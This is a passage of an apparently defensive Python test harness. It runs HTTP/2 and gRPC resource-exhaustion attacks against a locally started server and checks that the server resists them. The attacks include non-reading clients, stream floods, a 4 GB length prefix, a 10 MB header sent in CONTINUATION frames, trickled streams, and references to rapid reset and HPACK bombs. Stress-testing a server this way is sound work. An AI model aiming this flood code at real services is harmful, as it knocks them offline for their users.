        rep.ok(f"{tag}: then the connection, idle, is closed within another --timeout + 2 s",
               closed, f"after {time.time() - t0:.1f} s: {a.summary()}")
    a.close()  # the attacker leaves (if it was not shown out)
    watch.stop()
    standard(rep, tag, srv, watch)
    released(rep, tag, srv)
    srv.stop()


def attack_no_read(binary, rep, calls=40):
    """Windows wide open (2^31-1), a call left half sent (HEADERS and the
    first 1000 bytes of its message), then ModelInfer calls of 1 MiB, never
    reading: the server's writes block, and it stops reading."""
    srv = Server(binary, "--timeout", str(TIMEOUT), "--max-memory", "256M")
    watch = Watch(srv)
    a = Peer(srv.grpc, read=False)
    c = h2_client(initial_window_size=2 ** 31 - 1)
    c.increment_flow_control_window(2 ** 31 - 1 - 65535)
    a.send(c.data_to_send())
    a.read_until_settings()
    a.send(frame(SETTINGS, ACK, 0))
    body = grpc_frame(infer_msg(STALL_CALL))
    c.send_headers(1, request_headers("ModelInfer"))
    a.send(c.data_to_send() + frame(DATA, 0, 1, body[:1000]))
    a.s.settimeout(1.0)
    sent, blocked = 0, False
    for k in range(calls):
        sid = 2 * k + 3
        c.send_headers(sid, request_headers("ModelInfer"))
        try:
            a.s.sendall(c.data_to_send() + b"".join(
                frame(DATA, END_STREAM if i + 16384 >= len(body) else 0, sid, body[i:i + 16384])
                for i in range(0, len(body), 16384)))
            sent += 1
        except socket.timeout:
            blocked = True
            break
    t0 = time.time()
    time.sleep(0.3)
    during = srv.held()
    limit = 2 * TIMEOUT + 3
    while time.time() - t0 < limit and tcp_state(a.s) == 1:
        time.sleep(0.1)
    dt = time.time() - t0
    closed = tcp_state(a.s) != 1
    rep.diag(f"never reads: {sent} calls sent, then {'our send blocked' if blocked else 'done'}"
             f"; held: requests_in_flight {during[0]}, memory_used {mb(during[1] or 0)}; "
             f"connection {'closed' if closed else 'still open'} {dt:.1f} s later "
             f"(TCP state {tcp_state(a.s)})")
    rep.ok("never reads: the server closes the connection within 2 x --timeout + 3 s",
           closed, f"still open after {dt:.1f} s")
    watch.stop()
    standard(rep, "never reads", srv, watch)
    released(rep, "never reads", srv)
    a.close()
    srv.stop()


# ---- 6. too many streams ------------------------------------------------------------

def attack_streams(binary, rep, streams=500, conns=1000, limit=100):
    srv = Server(binary, "--grace", "3")
    watch = Watch(srv)
    # a: 500 streams before our ACK of the server's SETTINGS
    a = Peer(srv.grpc)
    c = h2_client()
    a.send(c.data_to_send())
    for k in range(streams):
        c.send_headers(2 * k + 1, request_headers("ModelInfer"))
    a.send(c.data_to_send())
    a.wait(lambda: sum(a.rst.values()) >= streams - limit or a.ended_by_server(), 2.0)
    opened = srv.held()[0] - srv.idle_in_flight
    rep.diag(f"{streams} streams (SETTINGS not acknowledged): calls open "
             f"{opened:g}; {a.summary()}")
    rep.ok(f"{streams} streams before the SETTINGS ACK: all beyond {limit} refused "
           "(RST_STREAM REFUSED_STREAM) or the connection ended",
           a.rst.get(7, 0) >= streams - limit or a.ended_by_server(), a.summary())
    rep.ok(f"{streams} streams before the SETTINGS ACK: at most {limit} calls open",
           opened <= limit, f"{opened:g}")
    a.send(b"".join(frame(RST_STREAM, 0, 2 * k + 1, struct.pack(">I", 8)) for k in range(streams)))
    time.sleep(0.3)
    a.close()
    released(rep, f"{streams} streams before the SETTINGS ACK (the client resets its calls)", srv)
    # b: the same once the SETTINGS are acknowledged (100 is in force)
    a = Peer(srv.grpc)
    c = h2_client()
    a.handshake(c)
    for k in range(streams):
        c.send_headers(2 * k + 1, request_headers("ModelInfer"))
    a.send(c.data_to_send())
    a.wait(lambda: sum(a.rst.values()) >= streams - 100 or a.ended_by_server(), 2.0)
    a.wait_closed(1.0)
    rep.diag(f"{streams} streams (SETTINGS acknowledged): {a.summary()}")
    rep.ok(f"{streams} streams after the SETTINGS ACK: refused beyond {limit} (RST_STREAM "
           "REFUSED_STREAM, or GOAWAY PROTOCOL_ERROR at most 2 streams past it)",
           a.rst.get(7, 0) >= streams - limit or
           (a.goaway and a.goaway[1] in (1, 11) and a.goaway[0] <= 2 * limit + 1), a.summary())
    a.close()
    released(rep, f"{streams} streams after the SETTINGS ACK (the server ends the connection)",
             srv)
    # c: `conns` connections, each 101 streams after the ACK, one after the other
    one = b"".join(frame(HEADERS, END_HEADERS, 2 * k + 1, plain_block()) for k in range(101))
    hello = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
    before, t0, ended = srv.rss(), time.time(), 0
    for _ in range(conns):
        try:
            with socket.create_connection(("127.0.0.1", srv.grpc), timeout=2) as s:
                s.sendall(hello + one)
                while s.recv(65536):
                    pass
                ended += 1
        except OSError:
            pass
    watch.stop()
    after = srv.rss()
    rep.diag(f"{conns} connections of 101 streams each in {time.time() - t0:.1f} s: {ended} "
             f"ended by the server; RSS {mb(before)} before, {mb(after)} after "
             f"(+{(after - before) / conns / 1024:.1f} KiB a connection)")
    standard(rep, f"{conns} x 101 streams", srv, watch)
    released(rep, f"{conns} x 101 streams", srv)
    t = srv.stop(wait=6)
    rep.ok("too many streams: the server exits within 2 s of SIGTERM afterwards "
           "(no call is left in flight; --grace 3)", t < 2.0, f"{t:.1f} s")


# ---- 7. big messages ---------------------------------------------------------------

def attack_big(binary, rep, claim=0xFFFFFFFF, header=10 * 1000 * 1000):
    srv = Server(binary, "--max-memory", "256M")
    watch = Watch(srv)
    # a: a message prefix claiming 4 GB, then 16 MiB of it
    a = Peer(srv.grpc)
    a.handshake()
    a.send(frame(HEADERS, END_HEADERS, 1, plain_block()) +
           frame(DATA, 0, 1, b"\0" + struct.pack(">I", claim) + b"x" * 1000))
    a.wait(lambda: 1 in a.ended or a.ended_by_server(), 1.0)
    status = next((h for sid, h in a.headers if sid == 1 and "grpc-status" in h), {})
    rep.diag(f"4 GB prefix: {a.summary()}; status {status.get('grpc-status')} "
             f"{status.get('grpc-message', '')!r}")
    rep.ok("4 GB prefix: RESOURCE_EXHAUSTED (grpc-status 8) or a reset within 1 s",
           status.get("grpc-status") == "8" or a.rst or a.ended_by_server(), a.summary())
    for _ in range(16):
        a.send(frame(DATA, 0, 1, b"x" * MiB))
    a.send(frame(DATA, END_STREAM, 1, b""))
    time.sleep(0.3)
    a.close()
    # b: a 10 MB header value (HEADERS and CONTINUATION frames of 1 MiB)
    a = Peer(srv.grpc)
    a.handshake()
    block = plain_block() + literal("x-big", "v" * header)
    for i in range(0, len(block), MiB):
        last = END_HEADERS if i + MiB >= len(block) else 0
        if a.ended_by_server() or not a.send(
                frame(HEADERS if i == 0 else CONTINUATION, last, 1, block[i:i + MiB])):
            break
    a.wait(lambda: 1 in a.ended or a.ended_by_server(), 2.0)
    rep.diag(f"10 MB header value: {a.summary()}")
    rep.ok("10 MB header value: the stream is reset or the connection ended",
           1 in a.ended or a.ended_by_server(), a.summary())
    a.close()
    watch.stop()
    standard(rep, "4 GB prefix, 10 MB header", srv, watch)
    released(rep, "4 GB prefix, 10 MB header", srv)
    srv.stop()


def attack_trickle(binary, rep, period=0.25):
    """ModelInfer messages whose raw_input_contents declare 60 MiB (the sum:
    the memory budget but 1 MiB), of which the attacker sends the first bytes,
    then one byte per stream every `period` s."""
    srv = Server(binary, "--timeout", str(TIMEOUT), "--max-memory", "256M")
    victim = lambda: call(srv.grpc, "ModelInfer", infer_msg(STALL_CALL))  # noqa: E731
    a = Peer(srv.grpc)
    c = h2_client()
    a.handshake(c)
    sizes, ids = [], []
    while len(ids) < 20:  # until less than 1.5 MiB of the budget is left
        free = srv.budget - (srv.held()[1] or 0)
        if free < 1.5 * MiB:
            break
        sizes.append(int(min(60 * MiB, free - MiB)))
        ids.append(2 * len(ids) + 1)
        c.send_headers(ids[-1], request_headers("ModelInfer"))
        a.send(c.data_to_send() + frame(DATA, 0, ids[-1], declared_msg(sizes[-1])))
        time.sleep(0.1)
    ids = [sid for sid in ids if sid not in a.ended]  # those the server took
    during, rss = srv.held(), srv.rss()
    watch = Watch(srv, lambda: (lambda r: (r[0] == "0", r[2], r[3]))(victim()))
    t0, limit = time.time(), 3 * TIMEOUT
    while time.time() - t0 < limit and not a.ended_by_server() and not set(ids) <= a.ended:
        a.send(b"".join(frame(DATA, 0, sid, b"\0") for sid in ids if sid not in a.ended))
        time.sleep(period)
    dt = time.time() - t0
    watch.stop()
    rep.diag(f"trickle: {len(sizes)} streams declaring {mb(sum(sizes))} in all, "
             f"{len(ids)} taken by the server "
             f"({a.sent} bytes sent by the end); held: requests_in_flight {during[0]}, "
             f"memory_used {mb(during[1] or 0)} of {mb(srv.budget)}, RSS {mb(rss)}; "
             f"after {dt:.1f} s: {a.summary()}")
    rep.ok(f"trickle: the calls trickled a byte per stream every {period:g} s are ended "
           f"(RESOURCE_EXHAUSTED or a reset) within 3 x --timeout",
           a.ended_by_server() or set(ids) <= a.ended,
           f"{len(set(ids) - a.ended)} of {len(ids)} still open after {dt:.1f} s: "
           f"{a.summary()}")
    standard(rep, "trickle (the other client: a 1 MiB ModelInfer)", srv, watch)
    a.close()
    time.sleep(0.5)
    code, _, dt, detail = victim()
    rep.ok("trickle, once the attacker left: a 1 MiB ModelInfer is served", code == "0", detail)
    released(rep, "trickle, once the attacker left", srv)
    srv.stop()


# ---- main ----------------------------------------------------------------------------

def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__.split("Usage: ")[1])
    binary = sys.argv[1]
    slow = [("5a. zero window (--timeout 3)", lambda r: attack_zero_window(binary, r)),
            ("5b. zero window kept alive with PINGs (--timeout 3)",
             lambda r: attack_zero_window(binary, r, keepalive=True)),
            ("5c. a client that never reads (--timeout 3)", lambda r: attack_no_read(binary, r)),
            ("7c. 60 MiB messages declared, trickled a byte at a time (--timeout 3)",
             lambda r: attack_trickle(binary, r))]
    fast = [("1. rapid reset", lambda r: attack_rapid_reset(binary, r)),
            ("2. CONTINUATION floods", lambda r: attack_continuation(binary, r)),
            ("3. SETTINGS and PING floods", lambda r: attack_floods(binary, r)),
            ("4. HPACK bombs (--threads 1)", lambda r: attack_hpack(binary, r)),
            ("6. too many streams", lambda r: attack_streams(binary, r)),
            ("7ab. a 4 GB prefix, a 10 MB header", lambda r: attack_big(binary, r))]

    def run(title, fn, rep):
        try:
            fn(rep)
        except Exception as e:  # noqa: BLE001 -- a check that cannot run fails
            rep.ok(f"{title}: the attack ran to its end", False, f"{type(e).__name__}: {e}")

    t0 = time.time()
    reports = {}
    threads = []
    for title, fn in slow:  # mostly waiting: side by side, each with its server
        reports[title] = Report(title)
        threads.append(threading.Thread(target=run, args=(title, fn, reports[title])))
        threads[-1].start()
    for t in threads:
        t.join()
    for title, fn in fast:
        reports[title] = Report(title)
        run(title, fn, reports[title])
    for p in Server.started:
        if p.poll() is None:
            p.kill()
            p.wait()
    for title in sorted(reports, key=lambda s: s.split(".")[0] + s):
        reports[title].print()
    ok("every server stopped by SIGTERM exited 0, with no sanitizer or valgrind report",
       not Server.problems, "\n".join(Server.problems))
    print(f"# {time.time() - t0:.1f} s")
    finish()


if __name__ == "__main__":
    main()
